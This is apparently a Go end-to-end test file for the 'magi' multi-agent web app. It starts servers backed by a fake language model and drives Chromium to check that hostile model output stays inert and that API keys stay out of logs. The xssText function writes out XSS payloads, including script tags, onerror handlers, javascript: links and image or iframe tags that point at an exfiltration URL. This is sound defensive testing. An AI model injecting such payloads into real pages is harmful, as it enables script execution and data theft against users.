package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/magi-system/magi"
	"github.com/magi-system/magi/internal/fakellm"
)

// chromium is Debian's browser; the tests never download one.
const chromium = "/usr/bin/chromium"

// verdicts are the sages' votes in the scripted deliberations: one for,
// one conditional, one against — a CONDITIONAL majority.
var verdicts = map[magi.AgentID]string{
	magi.Melchior: "APPROVED", magi.Balthasar: "CONDITIONAL", magi.Casper: "REJECTED", magi.Solomon: "CONDITIONAL",
}

// slowText is the scripted answer of agent to a "[slow]" question: long
// enough to be read while it streams, ending with the verdict JSON.
func slowText(agent magi.AgentID) string {
	var b strings.Builder
	fmt.Fprintf(&b, "## %s considers\n\n", strings.ToUpper(string(agent)))
	for i := range 12 {
		fmt.Fprintf(&b, "Point %d of %s: the evidence is weighed with care. ", i+1, agent)
	}
	return b.String() + "\n\n" + verdictJSON(agent)
}

// xssText is an answer full of markup that must stay inert in the page.
func xssText(agent magi.AgentID, exfil string) string {
	return "Hostile output follows.\n\n<script>window.__pwned = 1; alert('script')</script>\n\n" +
		"<img src=x onerror=\"window.__pwned = 2; alert('img')\">\n\n" +
		"[x](javascript:alert(1)) and [y](data:text/html,<script>alert(1)</script>) and [ok](https://example.com/ok)\n\n" +
		"![](" + exfil + "/exfil) ![leak](" + exfil + "/exfil?q=secret)\n\n" +
		"<iframe src=\"" + exfil + "/exfil\"></iframe> <a href=\"javascript:alert(3)\">html link</a>\n\n" +
		verdictJSON(agent)
}

func verdictJSON(agent magi.AgentID) string {
	d := verdicts[agent]
	conds := "[]"
	if d == "CONDITIONAL" {
		conds = `["the budget is reviewed monthly"]`
	}
	scores := ""
	if agent == magi.Solomon {
		scores = `, "scores": {"melchior": 81, "balthasar": 64, "casper": 72}`
	}
	return fmt.Sprintf("```json\n{\"decision\": %q, \"confidence\": 0.8, \"summary\": \"%s has spoken.\", \"conditions\": %s%s}\n```",
		d, agent, conds, scores)
}

// script is the fake model: the question's marker picks the answer.
func script(exfil string) func(fakellm.Request) fakellm.Reply {
	return func(req fakellm.Request) fakellm.Reply {
		switch {
		case strings.Contains(req.User, "[slow]"):
			gap := 45 * time.Millisecond
			if req.Agent == magi.Solomon {
				gap = 5 * time.Millisecond
			}
			return fakellm.Reply{Text: slowText(req.Agent), TTFT: 150 * time.Millisecond, Gap: gap}
		case strings.Contains(req.User, "[xss]"):
			return fakellm.Reply{Text: xssText(req.Agent, exfil), Gap: 2 * time.Millisecond}
		default:
			return fakellm.Reply{Text: slowText(req.Agent), Gap: time.Millisecond}
		}
	}
}

// need skips the test when a program is missing, or fails it under CI.
func need(t *testing.T, ok bool, what string) {
	t.Helper()
	if ok {
		return
	}
	if os.Getenv("CI") == "true" {
		t.Fatalf("%s is missing (CI=true: nothing may be skipped)", what)
	}
	t.Skipf("%s is missing", what)
}

// TestBrowser drives the real page in Debian's chromium against a real
// magi serve whose model is the fake OpenAI-compatible upstream, and a
// second one on the simulated provider.
func TestBrowser(t *testing.T) {
	if testing.Short() && os.Getenv("CI") != "true" {
		t.Skip("browser tests are slow; -short skips them")
	}
	_, errNode := exec.LookPath("node")
	need(t, errNode == nil, "node")
	_, errChromium := os.Stat(chromium)
	need(t, errChromium == nil, chromium)

	root, err := filepath.Abs("..")
	if err != nil {
		t.Fatal(err)
	}
	tmp := t.TempDir()
	bin := filepath.Join(tmp, "magi")
	build := exec.Command("go", "build", "-o", bin, "./cmd/magi")
	build.Dir = root
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build ./cmd/magi: %v\n%s", err, out)
	}

	var exfilHits atomic.Int64
	exfil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		exfilHits.Add(1)
		t.Logf("exfil server hit: %s %s", r.Method, r.URL)
	}))
	defer exfil.Close()
	fake := httptest.NewServer(fakellm.New(fakellm.Config{Script: script(exfil.URL)}))
	defer fake.Close()

	real := serve(t, bin, tmp, "real", "OPENAI_BASE_URL="+fake.URL+"/v1", "OPENAI_API_KEY=test-key", "MAGI_MODEL=fake")
	sim := serve(t, bin, tmp, "sim", "MAGI_PROVIDER=sim", "MAGI_SIM_PACE=5ms")
	// keyed needs an API key: one is made with the binary before it starts.
	key := createKey(t, bin, filepath.Join(tmp, "auth.db"))
	keyed := serve(t, bin, tmp, "auth", "OPENAI_BASE_URL="+fake.URL+"/v1", "OPENAI_API_KEY=test-key", "MAGI_MODEL=fake")
	// limited runs one deliberation at a time; "[slow]" questions keep it busy.
	limited := serve(t, bin, tmp, "limit", "OPENAI_BASE_URL="+fake.URL+"/v1", "OPENAI_API_KEY=test-key", "MAGI_MODEL=fake", "MAGI_MAX_RUNNING=1")
	paging := serve(t, bin, tmp, "paging", "MAGI_PROVIDER=sim", "MAGI_SIM_PACE=0")

	fixtures := map[string]any{"exfil": exfil.URL, "slow": map[magi.AgentID]string{}}
	for _, a := range magi.Members {
		fixtures["slow"].(map[magi.AgentID]string)[a] = slowText(a)
	}
	fixturePath := filepath.Join(tmp, "fixtures.json")
	if b, err := json.Marshal(fixtures); err != nil || os.WriteFile(fixturePath, b, 0o644) != nil {
		t.Fatalf("fixtures: %v", err)
	}

	e2e := filepath.Join(root, "web", "e2e")
	if _, err := os.Stat(filepath.Join(e2e, "node_modules", "playwright-core")); err != nil {
		_, errNpm := exec.LookPath("npm")
		need(t, errNpm == nil, "npm")
		npm := exec.Command("npm", "ci", "--no-audit", "--no-fund")
		npm.Dir = e2e
		if out, err := npm.CombinedOutput(); err != nil {
			t.Fatalf("npm ci: %v\n%s", err, out)
		}
	}
	shots := os.Getenv("MAGI_SCREENSHOTS")
	if shots == "" {
		shots = filepath.Join(e2e, "screenshots")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
	defer cancel()
	node := exec.CommandContext(ctx, "node", "--test", "--test-concurrency=1", "web/e2e/")
	node.Dir = root
	node.Env = append(os.Environ(), "MAGI_URL="+real, "MAGI_SIM_URL="+sim, "MAGI_FIXTURES="+fixturePath,
		"MAGI_SCREENSHOTS="+shots, "CHROMIUM="+chromium,
		"MAGI_AUTH_URL="+keyed, "MAGI_AUTH_KEY="+key, "MAGI_AUTH_LOG="+filepath.Join(tmp, "auth.log"),
		"MAGI_LIMIT_URL="+limited, "MAGI_PAGING_URL="+paging)
	out, err := node.CombinedOutput()
	t.Logf("node --test web/e2e/:\n%s", out)
	if err != nil {
		t.Fatalf("browser tests failed: %v", err)
	}
	if b, err := os.ReadFile(filepath.Join(tmp, "auth.log")); err != nil || len(b) == 0 || strings.Contains(string(b), key) {
		t.Errorf("the keyed server's log (read error %v, %d bytes) must exist and never contain the API key", err, len(b))
	}
	if n := exfilHits.Load(); n != 0 {
		t.Errorf("the exfiltration URL was requested %d times; model output must never load anything", n)
	}
}

// keyPattern is the shape of an API key printed by `magi keys create`.
var keyPattern = regexp.MustCompile(`magi_[0-9a-f]{8}_[A-Za-z0-9_-]{20,}`)

// createKey runs `magi keys create e2e --db db` and returns the key it
// prints once.
func createKey(t *testing.T, bin, db string) string {
	t.Helper()
	cmd := exec.Command(bin, "keys", "create", "e2e", "--db", db)
	cmd.Env = cleanEnv()
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("magi keys create: %v\n%s", err, out)
	}
	keys := keyPattern.FindAllString(string(out), -1)
	if len(keys) != 1 {
		t.Fatalf("magi keys create printed %d keys, want 1:\n%s", len(keys), out)
	}
	return keys[0]
}

// serve starts `magi serve` with env on a free port and waits for /healthz;
// it is stopped when the test ends.
func serve(t *testing.T, bin, tmp, name string, env ...string) string {
	t.Helper()
	addr := freeAddr(t)
	db := filepath.Join(tmp, name+".db")
	cmd := exec.Command(bin, "serve", "--addr", addr, "--db", db)
	cmd.Env = append(cleanEnv(), env...)
	log, err := os.Create(filepath.Join(tmp, name+".log"))
	if err != nil {
		t.Fatal(err)
	}
	cmd.Stdout, cmd.Stderr = log, log
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { _ = cmd.Wait(); close(done) }()
	t.Cleanup(func() {
		_ = cmd.Process.Signal(os.Interrupt)
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			_ = cmd.Process.Kill()
			<-done
		}
		_ = log.Close()
		if t.Failed() {
			b, _ := os.ReadFile(log.Name())
			t.Logf("magi serve (%s) log:\n%s", name, b)
		}
	})
	url := "http://" + addr
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		select {
		case <-done:
			b, _ := os.ReadFile(log.Name())
			t.Fatalf("magi serve (%s) exited early:\n%s", name, b)
		default:
		}
		if res, err := http.Get(url + "/healthz"); err == nil {
			_ = res.Body.Close()
			if res.StatusCode == http.StatusOK {
				return url
			}
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("magi serve (%s) did not answer /healthz at %s", name, url)
	return ""
}

// cleanEnv is the environment without any provider or MAGI settings, so
// the developer's own keys never reach the servers under test.
func cleanEnv() []string {
	var out []string
	for _, kv := range os.Environ() {
		k, _, _ := strings.Cut(kv, "=")
		if strings.HasPrefix(k, "MAGI_") || strings.HasPrefix(k, "OPENAI_") || strings.HasPrefix(k, "ANTHROPIC_") || strings.HasPrefix(k, "AWS_") {
			continue
		}
		out = append(out, kv)
	}
	return out
}

func freeAddr(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	_ = l.Close()
	return addr
}
